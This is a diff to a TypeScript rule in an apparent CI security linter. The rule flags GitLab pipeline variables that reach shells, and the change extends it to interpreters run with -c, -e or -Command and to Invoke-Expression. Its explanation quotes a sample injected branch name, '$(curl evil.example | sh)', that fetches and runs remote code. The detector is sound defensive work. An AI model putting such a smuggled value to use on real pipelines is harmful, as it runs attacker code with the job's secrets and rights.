@@ -23,7 +23,7 @@ export const variableInjection = defineRule({
   why: 'A branch name or title such as `$(curl evil.example | sh)` then runs in the job, with its variables and its rights.',
   fix: 'Pass the value as an argument: `bash -c \'… "$1"\' _ "$CI_COMMIT_REF_NAME"`.',
   blindSpots:
-    'Only shells, `eval` and here-documents that a shell runs are checked, not other interpreters, remote shells or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
+    'Only shells, `eval`, interpreters that are given a program as an argument and here-documents that a shell runs are checked, not remote shells, databases or scripts of the repository. Inputs are followed only where `expand_vars` puts them into a script.',
   keywords: ['before_script', 'script', 'after_script', 'hooks:pre_get_sources_script', 'run', 'include:inputs'],
   level: 'warning',
   source: 'https://docs.gitlab.com/ci/pipeline_security/',
@@ -94,11 +94,21 @@ function* expandedInputs(job: Job, line: Located<string>, { hit }: Context): Ite
 
 const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh']);
 
+/** Programs that run a text, and the option before it. */
+const INTERPRETERS: readonly (readonly [program: RegExp, option: RegExp])[] = [
+  [/^(?:sh|bash|ash|dash|zsh|ksh|su)$/, /^(?:-[a-z]*c|--command)$/],
+  [/^(?:pwsh|powershell)$/i, /^-c(?:ommand)?$/i],
+  [/^python[\d.]*$/, /^-[a-zA-Z]*c$/],
+  [/^(?:node|bun)$/, /^(?:-[ep]+|--eval|--print)$/],
+  [/^(?:perl|ruby)$/, /^-[a-zA-Z]*[eE]$/],
+  [/^php$/, /^-r$/],
+];
+
 /** The words that a command reads as commands of their own. */
 function runTexts({ name, words }: JobCommand): readonly CommandWord[] {
-  if (name === 'eval') return words.slice(1);
-  if (!SHELLS.has(name) && name !== 'su') return [];
-  const option = words.findIndex((word) => /^-[a-z]*c$/.test(word.text) || word.text === '--command');
+  if (/^(?:eval|iex|invoke-expression)$/i.test(name)) return words.slice(1);
+  const names = INTERPRETERS.find(([program]) => program.test(name))?.[1];
+  const option = names ? words.findIndex((word, index) => index > 0 && names.test(word.text)) : -1;
   const script = option === -1 ? undefined : words[option + 1];
   return script ? [script] : [];
 }
